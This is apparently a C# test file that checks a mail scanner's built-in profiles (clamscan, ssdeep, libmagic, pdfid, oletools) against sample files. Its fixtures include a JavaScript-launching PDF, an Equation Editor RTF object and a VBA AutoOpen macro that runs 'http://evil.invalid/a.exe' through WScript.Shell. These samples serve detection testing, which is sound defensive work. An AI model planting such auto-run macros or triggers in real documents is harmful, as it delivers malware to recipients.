using System.Text;
using MailScanBridge.Scanning;
using MailScanBridge.Scanning.Commands;
using MailScanBridge.Tests.Support;
using MailScanBridge.Tests.Unpacking;
using Xunit;

namespace MailScanBridge.Tests.Scanning.Commands;

/// <summary>The built-in profiles with the real tools, in the sandbox. Tools that Debian does not have are looked for below MAILSCAN_TOOLS.</summary>
public sealed class RealProfileTests : IDisposable
{
    private const string ScriptedPdf = "%PDF-1.1\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /JavaScript /J#53 (app.alert\\(1\\)) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";

    private readonly TemporaryFolder _folder = new();

    [Fact]
    public async Task Clamscan_finds_eicar_and_says_what_it_could_not_see()
    {
        Require.Program("clamscan", "clamav");
        var database = _folder.Write("local.ndb", Encoding.ASCII.GetBytes($"Eicar-Test-Signature:0:0:{Convert.ToHexStringLower(Make.Eicar)}\n"));
        var profile = ProfileTests.Profile("clamscan") with { Files = new Dictionary<string, string> { ["database"] = database } };

        Assert.Equal("Eicar-Test-Signature.UNOFFICIAL", Assert.Single((await ScanAsync(profile, Make.Eicar)).Findings).Name);
        Assert.Equal(ScanOutcome.Scanned, (await ScanAsync(profile, "hello"u8.ToArray())).Outcome);
        Assert.Equal(ScanOutcome.Scanned, (await ScanAsync(profile, [])).Outcome);
        Assert.Equal(Reasons.ToolDown, (await ScanAsync(profile with { Files = new Dictionary<string, string> { ["database"] = _folder.Write("bad.ndb", "x:y"u8.ToArray()) } }, Make.Eicar)).Reason);
    }

    [Fact]
    public async Task Ssdeep_knows_what_is_like_a_known_bad_file()
    {
        Require.Program("ssdeep", "ssdeep");
        var bad = new byte[20_000];
        new Random(1).NextBytes(bad);
        var sample = _folder.Write("bad", bad);
        var known = _folder.Write("known", Encoding.UTF8.GetBytes(await Output.OfAsync("ssdeep", "-s", "-c", "-b", sample)));
        var profile = ProfileTests.Profile("ssdeep") with { Files = new Dictionary<string, string> { ["known"] = known } };
        var like = bad.ToArray();
        like.AsSpan(100, 20).Clear();

        Assert.Equal(("Ssdeep.LikeKnownBad", VerdictKind.Suspicious), (await ScanAsync(profile, like)).Findings.Select(f => (f.Name, f.Kind)).Single());
        Assert.Empty((await ScanAsync(profile, Enumerable.Range(0, 20_000).Select(i => (byte)(i * i)).ToArray())).Findings);
        Assert.Equal(ScanOutcome.NoOpinion, (await ScanAsync(profile, bad[..4000])).Outcome);
    }

    [Fact]
    public async Task Libmagic_sees_a_program_behind_any_name()
    {
        Require.Program("file", "file");
        var profile = ProfileTests.Profile("libmagic");

        Assert.Equal("Type.ProgramBySecondOpinion", Assert.Single((await ScanAsync(profile, await File.ReadAllBytesAsync("/bin/true", Wait.Token))).Findings).Name);
        Assert.Empty((await ScanAsync(profile, "%PDF-1.4\n"u8.ToArray())).Findings);
    }

    [Fact]
    public async Task Pdfid_flags_and_pdf_parser_gives_the_script()
    {
        var pdfid = Script("pdfid", "DidierStevensSuite/pdfid.py");
        var parser = Script("pdf-parser", "DidierStevensSuite/pdf-parser.py");
        var pdf = Encoding.Latin1.GetBytes(ScriptedPdf);

        var flags = await ScanAsync(pdfid, pdf);
        var context = await ScanAsync(parser, pdf);

        Assert.Contains(flags.Findings, f => f is { Name: "Pdf.EscapedKeyword", Kind: VerdictKind.Suspicious });
        Assert.Contains(flags.Findings, f => f is { Name: "Pdf.Keyword", Kind: VerdictKind.Clean });
        Assert.Contains("app.alert", Assert.Single(context.Findings).Detail, StringComparison.Ordinal);
        Assert.Equal(Reasons.ToolDown, (await ScanAsync(pdfid, "no pdf"u8.ToArray())).Reason);
    }

    [Fact]
    public async Task Olevba_and_mraptor_judge_a_macro()
    {
        var macro = "Attribute VB_Name = \"Module1\"\nSub AutoOpen()\n  Set s = CreateObject(\"WScript.Shell\")\n  Open \"c:\\t.txt\" For Output As #1\n  s.Run \"http://evil.invalid/a.exe\"\nEnd Sub\n"u8.ToArray();

        Assert.Contains((await ScanAsync(OleTool("olevba"), macro)).Findings, f => f is { Name: "Vba.AutoRun", Kind: VerdictKind.Suspicious });
        Assert.Equal("Vba.MacroRaptor", Assert.Single((await ScanAsync(OleTool("mraptor"), macro)).Findings).Name);
        Assert.Equal(ScanOutcome.NoOpinion, (await ScanAsync(OleTool("mraptor"), "Attribute VB_Name = \"Module1\"\nSub Hello()\nEnd Sub\n"u8.ToArray())).Outcome);
    }

    [Fact]
    public async Task Rtfobj_finds_the_equation_editor()
    {
        var rtf = Encoding.ASCII.GetBytes($"{{\\rtf1{{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata 0105000002000000{"0b000000" + Convert.ToHexStringLower("Equation.3\0"u8)}00000000000000000000000000}}}}}}");

        Assert.Contains((await ScanAsync(OleTool("rtfobj"), rtf)).Findings, f => f.Name == "Rtf.Exploit");
    }

    public void Dispose() => _folder.Dispose();

    private static string Tools(string path)
    {
        var tools = Environment.GetEnvironmentVariable("MAILSCAN_TOOLS");
        Assert.SkipWhen(tools is null, $"{path} is not packaged; MAILSCAN_TOOLS names no directory that has it");
        return Path.Combine(tools, path);
    }

    private static CommandOptions Script(string profile, string path) => ProfileTests.Profile(profile) with { Files = new Dictionary<string, string> { ["script"] = Tools(path) } };

    private static CommandOptions OleTool(string profile)
    {
        var options = ProfileTests.Profile(profile);
        return options with
        {
            Command = ["python3", "-B", Tools($"oletools/oletools/{options.Command[0]}.py"), .. options.Command.Skip(1)],
            Read = [Tools("")],
            Environment = new Dictionary<string, string> { ["PYTHONPATH"] = $"{Tools("root/usr/lib/python3/dist-packages")}:{Tools("oletools")}" },
        };
    }

    private async Task<ScannerResult> ScanAsync(CommandOptions profile, byte[] content)
    {
        var scanner = new CommandScanner("tool", profile, Sandboxes.Here, TimeProvider.System);
        Assert.Null(await scanner.ProbeAsync(Wait.Token));
        return await scanner.ScanAsync(Make.Item(path: _folder.Write("sample", content), content: content), Wait.Token);
    }
}
